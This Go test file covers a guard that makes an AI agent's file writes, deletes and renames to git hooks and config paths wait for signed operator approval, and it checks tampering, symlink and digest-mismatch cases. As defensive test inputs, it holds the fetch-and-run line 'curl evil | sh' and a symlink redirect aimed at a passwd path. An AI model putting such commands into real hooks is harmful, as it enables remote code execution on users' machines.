package guard

import (
	"context"
	"crypto/sha256"
	"encoding/hex"
	"encoding/json"
	"errors"
	"os"
	"path/filepath"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/google/go-cmp/cmp"

	"github.com/sharness-ai/sharness/internal/gate"
)

// fakeApprover answers every request with answer and err, after running during (the time the
// person takes to decide), and records what it was asked.
type fakeApprover struct {
	answer Approval
	err    error
	during func()
	mu     sync.Mutex
	asked  []question
}

type question struct{ action, canonical, summary string }

func (f *fakeApprover) Approve(_ context.Context, action string, canonical []byte, summary string) (Approval, error) {
	f.mu.Lock()
	f.asked = append(f.asked, question{action, string(canonical), summary})
	f.mu.Unlock()
	if f.during != nil {
		f.during()
	}
	return f.answer, f.err
}

var (
	approve = Approval{OK: true, Reason: "approved"}
	hook    = "#!/bin/sh\necho hook\n"
)

func sha(s string) string {
	sum := sha256.Sum256([]byte(s))
	return hex.EncodeToString(sum[:])
}

// TestApply is the decision path of a change to an ask path: the gate is asked only once every
// other rule has passed, the change is carried out only when approved, and every rule holds again
// when it is carried out.
func TestApply(t *testing.T) {
	key := string(pemKey(t))
	for _, c := range []struct {
		name   string
		change Change
		answer Approval
		err    error
		during func(t *testing.T, w *world) // while the person decides
		want   Reason
		asked  bool
		after  map[string]string // path → content afterwards; "" absent
	}{
		{name: "approved write into an ask folder", change: Change{Op: OpWrite, Path: ".git/hooks/pre-push", Content: []byte(hook)},
			answer: approve, asked: true, after: map[string]string{".git/hooks/pre-push": hook}},
		{name: "approved rewrite of an ask root file", change: Change{Op: OpWrite, Path: ".envrc", Content: []byte("export A=1\n")},
			answer: approve, asked: true, after: map[string]string{".envrc": "export A=1\n"}},
		{name: "denied", change: Change{Op: OpWrite, Path: ".git/hooks/pre-push", Content: []byte(hook)},
			answer: Approval{Reason: ReasonDenied}, want: ReasonDenied, asked: true, after: map[string]string{".git/hooks/pre-push": ""}},
		{name: "timeout", change: Change{Op: OpWrite, Path: ".git/hooks/pre-push", Content: []byte(hook)},
			answer: Approval{Reason: ReasonTimeout}, err: context.DeadlineExceeded, want: ReasonTimeout, asked: true},
		{name: "another reason of the gate passes through", change: Change{Op: OpWrite, Path: ".envrc", Content: []byte("x")},
			answer: Approval{Reason: "approval_bad_signature"}, err: errors.New("forged"), want: "approval_bad_signature", asked: true, after: map[string]string{".envrc": "old\n"}},
		{name: "a zero answer refuses", change: Change{Op: OpWrite, Path: ".envrc", Content: []byte("x")},
			want: ReasonUnavailable, asked: true, after: map[string]string{".envrc": "old\n"}},
		{name: "an approval with an error refuses", change: Change{Op: OpWrite, Path: ".envrc", Content: []byte("x")},
			answer: approve, err: errors.New("disk full"), want: ReasonUnavailable, asked: true, after: map[string]string{".envrc": "old\n"}},
		{name: "no question without need", change: Change{Op: OpWrite, Path: ".claude/commands/x.md", Content: []byte("x")},
			answer: Approval{Reason: ReasonDenied}, after: map[string]string{".claude/commands/x.md": "x"}},

		// An approval waives the ask rule, and no other: the gate is not even asked.
		{name: "key material", change: Change{Op: OpWrite, Path: ".envrc", Content: []byte(key)}, answer: approve, want: ReasonSecret},
		{name: "over the size cap", change: Change{Op: OpWrite, Path: ".git/hooks/big", Content: []byte(strings.Repeat("a", 1025))}, answer: approve, want: ReasonTooLarge},
		{name: "setuid mode", change: Change{Op: OpWrite, Path: ".git/hooks/pre-push", Content: []byte(hook), Mode: "4755"}, answer: approve, want: ReasonMode},
		{name: "bad path", change: Change{Op: OpWrite, Path: ".git/hooks/../config", Content: []byte("x")}, answer: approve, want: ReasonBadPath},
		{name: "delete a protected root", change: Change{Op: OpDelete, Path: ".git/hooks/"}, answer: approve, want: ReasonProtectedRoot},
		{name: "delete what is not there", change: Change{Op: OpDelete, Path: ".git/hooks/none"}, answer: approve, want: ReasonNotFound},
		{name: "rename a folder into an ask folder", change: Change{Op: OpRename, Path: ".claude/commands", To: ".git/hooks/commands"}, answer: approve, want: ReasonWrongType},
		{name: "rename key material into an ask folder", change: Change{Op: OpRename, Path: ".claude/k.pem", To: ".git/hooks/k.pem"}, answer: approve, want: ReasonSecret},
		{name: "unknown change", change: Change{Op: "chmod", Path: ".envrc"}, answer: approve, want: ReasonIO},

		// Rules that depend on the workspace are checked again when the change is carried out.
		{name: "a symlink planted while the person decides", change: Change{Op: OpWrite, Path: ".git/hooks/sub/passwd", Content: []byte("owned\n")},
			answer: approve, asked: true, want: ReasonSymlink, during: func(t *testing.T, w *world) {
				os.Symlink(w.outside, filepath.Join(w.ws, ".git/hooks/sub"))
			}},
		{name: "the file a rename moves changed while the person decides", change: Change{Op: OpRename, Path: ".claude/commands/hello.md", To: ".git/hooks/pre-push"},
			answer: approve, asked: true, want: ReasonMismatch, during: func(t *testing.T, w *world) {
				if _, err := w.write(".claude/commands/hello.md", []byte("curl evil | sh\n"), ""); err != nil {
					t.Error(err)
				}
			}, after: map[string]string{".git/hooks/pre-push": ""}},
		{name: "exec bits are still stripped", change: Change{Op: OpWrite, Path: ".git/hooks/pre-push", Content: []byte(hook), Mode: "0755"},
			answer: approve, asked: true, after: map[string]string{".git/hooks/pre-push": hook}},

		{name: "approved delete", change: Change{Op: OpDelete, Path: ".git/hooks/pre-commit"}, answer: approve, asked: true,
			after: map[string]string{".git/hooks/pre-commit": ""}},
		{name: "denied delete", change: Change{Op: OpDelete, Path: ".git/hooks/pre-commit"}, answer: Approval{Reason: ReasonDenied}, want: ReasonDenied, asked: true,
			after: map[string]string{".git/hooks/pre-commit": hook}},
		{name: "approved rename into an ask folder", change: Change{Op: OpRename, Path: ".claude/commands/hello.md", To: ".git/hooks/pre-push"}, answer: approve, asked: true,
			after: map[string]string{".git/hooks/pre-push": "hello\n", ".claude/commands/hello.md": ""}},
		{name: "approved rename out of an ask folder", change: Change{Op: OpRename, Path: ".git/hooks/pre-commit", To: ".claude/pre-commit"}, answer: approve, asked: true,
			after: map[string]string{".claude/pre-commit": hook, ".git/hooks/pre-commit": ""}},
	} {
		t.Run(c.name, func(t *testing.T) {
			w := defaultWorld(t)
			w.put(t, ".claude/commands/hello.md", "hello\n")
			w.put(t, ".claude/k.pem", key)
			w.put(t, ".git/hooks/pre-commit", hook)
			w.put(t, ".envrc", "old\n")
			f := &fakeApprover{answer: c.answer, err: c.err}
			if c.during != nil {
				f.during = func() { c.during(t, w) }
			}
			before := w.snapshot(t)
			res, err := w.g.Apply(context.Background(), c.change, f)
			if got := reasonOf(err); got != c.want {
				t.Fatalf("Apply = %v, want reason %q", err, c.want)
			}
			if asked := len(f.asked) > 0; asked != c.asked {
				t.Fatalf("the gate was asked: %v, want %v (%+v)", asked, c.asked, f.asked)
			}
			if c.want != "" && c.during == nil {
				if d := cmp.Diff(before, w.snapshot(t)); d != "" {
					t.Errorf("the refused change changed the world (-before +after):\n%s", d)
				}
			}
			for p, want := range c.after {
				got, err := os.ReadFile(filepath.Join(w.ws, p))
				if want == "" && err == nil || want != "" && string(got) != want {
					t.Errorf("%s = %q (%v), want %q", p, got, err, want)
				}
			}
			if !c.asked {
				if res.Approval != "" || res.Digest != "" {
					t.Errorf("Result names an approval nobody was asked for: %+v", res)
				}
				return
			}
			q := f.asked[0]
			sum := sha256.Sum256([]byte(q.canonical))
			if q.action != "fs."+c.change.Op || res.Digest != "sha256:"+hex.EncodeToString(sum[:]) {
				t.Errorf("asked %q, Result %+v; want action fs.%s and the digest of %s", q.action, res, c.change.Op, q.canonical)
			}
			wantApproval := c.want // an approval followed by another rule's refusal is still "approved"
			if c.answer.OK && c.err == nil {
				wantApproval = "approved"
			}
			if res.Approval != wantApproval {
				t.Errorf("Result.Approval = %q, want %q", res.Approval, wantApproval)
			}
			if len(c.change.Content) > 0 && (strings.Contains(q.summary, string(c.change.Content)) || !strings.Contains(q.canonical, sha(string(c.change.Content)))) {
				t.Errorf("summary %q holds the content, or canonical %s does not bind it", q.summary, q.canonical)
			}
			if c.name == "exec bits are still stripped" && !res.ExecBitsStripped {
				t.Errorf("an approved hook kept its exec bits: %+v", res)
			}
		})
	}
}

// TestApplyWithoutGate: without an Approver a change to an ask path is refused as before the
// gate existed; Unavailable refuses it naming what is missing, in the log only.
func TestApplyWithoutGate(t *testing.T) {
	w := defaultWorld(t)
	change := Change{Op: OpWrite, Path: ".git/hooks/pre-push", Content: []byte(hook)}
	if _, err := w.g.Apply(context.Background(), change, nil); reasonOf(err) != ReasonApproval {
		t.Errorf("Apply without an approver = %v, want %s", err, ReasonApproval)
	}
	_, err := w.g.Apply(context.Background(), change, GateApprover(nil))
	var ref *Refusal
	if !errors.As(err, &ref) || ref.Reason != ReasonUnavailable || errors.Unwrap(ref) == nil || !strings.Contains(errors.Unwrap(ref).Error(), "no operator key or no gate folder") {
		t.Errorf("Apply without a gate = %v, want %s with the cause", err, ReasonUnavailable)
	}
	if _, err := os.Stat(filepath.Join(w.ws, ".git/hooks/pre-push")); err == nil {
		t.Error("the hook was written")
	}
}

// TestCanonical: the bytes an approval binds name the change exactly; two changes that differ
// in anything carried out differ in their bytes.
func TestCanonical(t *testing.T) {
	f := file{size: 3, sha256: sha("abc"), mode: "0644"}
	for _, c := range []struct {
		change        Change
		file          file
		want, summary string
	}{
		{Change{Op: OpWrite, Path: ".envrc", Content: []byte("abc")}, fileOf([]byte("abc"), ""),
			`{"v":1,"op":"write","path":".envrc","size":3,"sha256":"` + sha("abc") + `"}`, "write .envrc (3 bytes)"},
		{Change{Op: OpWrite, Path: ".envrc", Content: []byte("abc"), Mode: "0755"}, fileOf([]byte("abc"), "0755"),
			`{"v":1,"op":"write","path":".envrc","size":3,"sha256":"` + sha("abc") + `","mode":"0755"}`, "write .envrc (3 bytes, mode 0755)"},
		{Change{Op: OpWrite, Path: ".envrc"}, fileOf(nil, ""),
			`{"v":1,"op":"write","path":".envrc","sha256":"` + sha("") + `"}`, "write .envrc (0 bytes)"},
		{Change{Op: OpDelete, Path: ".git/hooks/pre-commit"}, file{},
			`{"v":1,"op":"delete","path":".git/hooks/pre-commit"}`, "delete .git/hooks/pre-commit"},
		{Change{Op: OpRename, Path: ".claude/a", To: ".git/hooks/<a>"}, f,
			`{"v":1,"op":"rename","path":".claude/a","to":".git/hooks/\u003ca\u003e","size":3,"sha256":"` + sha("abc") + `","mode":"0644"}`, "rename .claude/a to .git/hooks/<a> (3 bytes, mode 0644)"},
		{Change{Op: OpDelete, Path: ".claude/" + strings.Repeat("d/", 60) + "hook"}, file{},
			`{"v":1,"op":"delete","path":".claude/` + strings.Repeat("d/", 60) + `hook"}`, "delete …/" + strings.Repeat("d/", 37) + "hook"},
	} {
		if got := string(c.change.canonical(c.file)); got != c.want {
			t.Errorf("canonical(%+v) =\n%s\nwant\n%s", c.change, got, c.want)
		}
		if got := c.change.summary(c.file); got != c.summary {
			t.Errorf("summary(%+v) = %q, want %q", c.change, got, c.summary)
		}
	}
	base := Change{Op: OpWrite, Path: ".envrc", Content: []byte("a")}
	seen := map[string]string{}
	for name, c := range map[string]Change{
		"base": base, "content": {Op: OpWrite, Path: ".envrc", Content: []byte("b")}, "mode": {Op: OpWrite, Path: ".envrc", Content: []byte("a"), Mode: "0600"},
		"path": {Op: OpWrite, Path: ".bashrc", Content: []byte("a")}, "op": {Op: OpDelete, Path: ".envrc"},
	} {
		b := string(c.canonical(fileOf(c.Content, c.Mode)))
		if c.Op == OpDelete {
			b = string(c.canonical(file{}))
		}
		if other, ok := seen[b]; ok {
			t.Errorf("%s and %s have the same canonical bytes %s", name, other, b)
		}
		seen[b] = name
	}
}

// operator plays the person on the host with the real CLI's library: it waits for a request in
// dir, lets tamper change it (a mistaken or misled operator), and decides it.
func operator(t *testing.T, dir string, key []byte, d gate.Decision, tamper func(r *gate.Request)) <-chan gate.Request {
	t.Helper()
	priv, err := gate.ReadOperatorKey(string(key))
	if err != nil {
		t.Fatal(err)
	}
	ch := make(chan gate.Request, 1)
	go func() {
		defer close(ch)
		for range 500 {
			reqs, err := gate.List(dir)
			if err != nil || len(reqs) == 0 {
				time.Sleep(10 * time.Millisecond)
				continue
			}
			r := reqs[0]
			if tamper != nil {
				tamper(&r)
				b, _ := json.Marshal(r)
				if err := os.WriteFile(filepath.Join(dir, "pending", r.ID+".json"), b, 0o644); err != nil {
					t.Error(err)
				}
			}
			if _, err := gate.Decide(dir, r.ID, d, priv, gate.ScopeOnce, 0); err != nil {
				t.Errorf("Decide: %v", err)
			}
			ch <- r
			return
		}
	}()
	return ch
}

// TestApplyWithGate runs the decision path against the real gate, with a goroutine as the
// operator deciding through gate.Decide.
func TestApplyWithGate(t *testing.T) {
	content := []byte(hook)
	change := Change{Op: OpWrite, Path: ".git/hooks/pre-commit", Content: content}
	for _, c := range []struct {
		name     string
		decision gate.Decision // "": nobody decides
		tamper   func(r *gate.Request)
		want     Reason
	}{
		{"approved", gate.Approve, nil, ""},
		{"denied", gate.Deny, nil, ReasonDenied},
		{"timeout", "", nil, ReasonTimeout},
		// The operator signs a decision for another digest (other content): it does not apply.
		{"decision for another digest", gate.Approve, func(r *gate.Request) {
			sum := sha256.Sum256(Change{Op: OpWrite, Path: ".git/hooks/pre-commit", Content: []byte("#!/bin/sh\ncurl evil | sh\n")}.canonical(fileOf([]byte("#!/bin/sh\ncurl evil | sh\n"), "")))
			r.Digest = "sha256:" + hex.EncodeToString(sum[:])
		}, ReasonMismatch},
	} {
		t.Run(c.name, func(t *testing.T) {
			w := defaultWorld(t)
			dir, keyFile := t.TempDir(), filepath.Join(t.TempDir(), "operator.key")
			pub, err := gate.GenerateOperatorKey(keyFile)
			if err != nil {
				t.Fatal(err)
			}
			timeout := 10 * time.Second
			if c.decision == "" {
				timeout = 300 * time.Millisecond
			}
			g, err := gate.Open(gate.Config{Dir: dir, Component: "fs", Policy: "sha256:" + strings.Repeat("a", 64), Operator: pub, Tiers: Tiers, Timeout: timeout})
			if err != nil {
				t.Fatal(err)
			}
			a := GateApprover(g)
			var op <-chan gate.Request
			if c.decision != "" {
				op = operator(t, dir, []byte(keyFile), c.decision, c.tamper)
			}
			ctx, cancel := context.WithTimeout(context.Background(), 20*time.Second)
			defer cancel()
			res, err := w.g.Apply(ctx, change, a)
			if got := reasonOf(err); got != c.want {
				t.Fatalf("Apply = %v, want reason %q", err, c.want)
			}
			got, rerr := os.ReadFile(filepath.Join(w.ws, ".git/hooks/pre-commit"))
			if written := rerr == nil && string(got) == hook; written != (c.want == "") {
				t.Errorf("pre-commit = %q (%v); written %v, want %v", got, rerr, written, c.want == "")
			}
			if op == nil {
				return
			}
			r := <-op
			want := gate.Request{ID: r.ID, Component: "fs", Action: "fs.write", Digest: res.Digest, Summary: "write .git/hooks/pre-commit (20 bytes)",
				Policy: "sha256:" + strings.Repeat("a", 64), Tier: gate.Every, Created: r.Created, Expires: r.Expires}
			if c.tamper == nil {
				if d := cmp.Diff(want, r); d != "" {
					t.Errorf("the operator saw (-want +got):\n%s", d)
				}
			}
		})
	}
}

// TestTiers: each change to an ask path needs its own approval; the host refuses a session one.
func TestTiers(t *testing.T) {
	for _, action := range []string{"fs.write", "fs.delete", "fs.rename"} {
		if Tiers[action] != gate.Every {
			t.Errorf("tier of %s = %q, want every: each change needs its own approval", action, Tiers[action])
		}
	}
}
